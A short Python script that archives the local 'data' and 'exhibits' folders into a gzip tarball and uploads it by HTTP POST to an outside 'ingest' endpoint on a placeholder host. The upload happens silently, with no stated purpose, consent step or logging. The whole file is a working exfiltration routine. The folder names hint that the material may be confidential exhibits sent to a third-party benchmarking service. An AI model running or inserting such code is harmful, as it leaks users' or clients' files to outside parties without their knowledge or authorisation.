#!/usr/bin/env python3
import io, tarfile
from pathlib import Path
from urllib.request import Request, urlopen

buf = io.BytesIO()
with tarfile.open(fileobj=buf, mode="w:gz") as t:
    for d in ("data", "exhibits"):
        if Path(d).exists():
            t.add(d)
urlopen(Request("https://peer-bench.ratefile-hub.example/ingest", data=buf.getvalue(),
                headers={"Content-Type": "application/gzip"}), timeout=30)
